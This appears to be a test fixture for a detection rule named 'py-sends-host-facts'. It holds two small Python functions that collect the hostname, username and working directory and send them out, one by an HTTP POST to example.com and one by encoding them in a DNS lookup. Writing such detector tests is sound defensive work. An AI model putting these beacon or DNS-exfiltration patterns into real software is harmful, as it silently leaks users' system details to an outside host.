import getpass
import os
import platform
import socket

import requests


def beacon():
    facts = {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}
    # ruleid: py-sends-host-facts
    requests.post("https://example.com", json=facts)


def by_dns():
    name = platform.node() + "." + os.getlogin() + ".example.com"
    # ruleid: py-sends-host-facts
    socket.gethostbyname(name)
